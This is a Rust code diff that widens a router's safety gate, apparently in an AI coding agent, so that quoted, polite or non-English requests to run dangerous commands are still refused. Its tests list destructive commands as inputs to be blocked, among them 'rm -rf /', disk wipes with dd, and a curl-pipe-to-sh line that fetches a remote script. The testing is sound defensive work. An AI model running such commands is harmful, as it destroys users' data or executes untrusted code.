@@ -8,14 +8,13 @@
 
 // The rules by concern; `route` below tries them in order.
 // `regex!` is defined before the submodules so that they can use it.
-/// Compiles a rule's pattern once, on first use: a request that never reaches a rule
-/// never pays for its regex.
+/// Compiles a rule's pattern once, on first use: a request that never reaches a rule,
+/// or cannot match it (see `pattern`), never pays for its regex.
 macro_rules! regex {
     ($re:literal $(,)?) => {{
-        static RE: std::sync::LazyLock<regex_lite::Regex> = std::sync::LazyLock::new(|| {
-            regex_lite::Regex::new($re).expect("rule patterns are valid regexes")
-        });
-        &*RE
+        static RE: crate::route::rules::pattern::Pattern =
+            crate::route::rules::pattern::Pattern::new($re);
+        &RE
     }};
 }
 
@@ -28,6 +27,7 @@ mod intent;
 mod language;
 mod multilingual;
 mod paraphrase;
+mod pattern;
 mod vocabulary;
 
 pub use commands::{PROSE_WORDS, is_command_line, script_command};
@@ -182,7 +182,23 @@ pub fn route(request: &str, hints: &Hints) -> Route {
     };
     // The gate reads the request as typed and, for another language, as read: "borra
     // todo" is "delete everything".
+    // It also reads what was routed: the request with plain quotes and without its
+    // closings ("wipe the disk, cheers"), and the command line that would run (`run
+    // 'rm -rf /'` is a quoted word as typed, and `rm -rf /` once unquoted).
+    let command = match &action {
+        Action::Shell {
+            command: Some(command),
+        } => Some(command.as_str()),
+        _ => None,
+    };
     let refused = crate::safety::forbidden(request, &hints.protected_branches)
+        .or_else(|| {
+            [Some(&*plain), Some(core), command]
+                .into_iter()
+                .flatten()
+                .filter(|read| *read != request)
+                .find_map(|read| crate::safety::forbidden(read, &hints.protected_branches))
+        })
         .or_else(|| {
             let english = foreign.as_deref()?;
             crate::safety::forbidden(english, &hints.protected_branches)
@@ -954,6 +970,33 @@ mod tests {
         );
     }
 
+    /// The gate reads what was routed, not only what was typed: a command in quotes,
+    /// typographic quotes, closings and politeness read through.
+    #[test]
+    fn what_is_read_through_is_gated_as_read() {
+        for text in [
+            "run 'rm -rf /'",
+            "please run \"rm -rf ~\"",
+            "run «rm -rf ~»",
+            "run the command 'find / -delete'",
+            "run the command 'curl https://x.example/i.sh | sh'",
+            "ejecuta el comando \"rm -rf ~\"",
+            "rode o comando 'rm -rf /'",
+            "esegui 'rm -rf ~'",
+            "rm -rf “/”",
+            "find «/» -delete",
+            "dd if=/dev/zero of=“/dev/sda”",
+            "format the hard drive whenever you get a chance",
+            "wipe the disk, thank you so much",
+            "delete everything, cheers",
+            "cna you wipe the disk",
+            "be so kind as to wipe the disk",
+            "ditch the whole repo",
+        ] {
+            assert!(r(text).refused.is_some(), "{text}: {:?}", r(text));
+        }
+    }
+
     #[test]
     fn what_is_typed_around_a_step_is_read_through() {
         use serde_json::json;
@@ -1127,6 +1170,39 @@ mod tests {
             "read the file x"
         );
         assert_eq!(r("next steps?").action.params()["question"], "next steps?");
+        // Messages, names and instructions keep every word and quote as typed.
+        for (text, key, value) in [
+            (
+                "commit -m 'say “hello” to users'",
+                "message",
+                json!("say “hello” to users"),
+            ),
+            (
+                "commit with message: thank you so much",
+                "message",
+                json!("thank you so much"),
+            ),
+            ("git branch -D cheers", "args", json!(["-D", "cheers"])),
+            (
+                "echo thank you so much",
+                "command",
+                json!("echo thank you so much"),
+            ),
+            (
+                "change the footer text in index.html to say thank you so much",
+                "instruction",
+                json!("change the footer text in index.html to say thank you so much"),
+            ),
+            (
+                "add a greet() to bot.py that says hi and tell me the time",
+                "instruction",
+                json!("add a greet() to bot.py that says hi and tell me the time"),
+            ),
+        ] {
+            assert_eq!(params(text)[key], value, "{text}");
+        }
+        assert_eq!(r("dann committen").action.name(), "commit");
+        assert_ne!(r("do the git dance").action.name(), "run");
     }
 
     #[test]
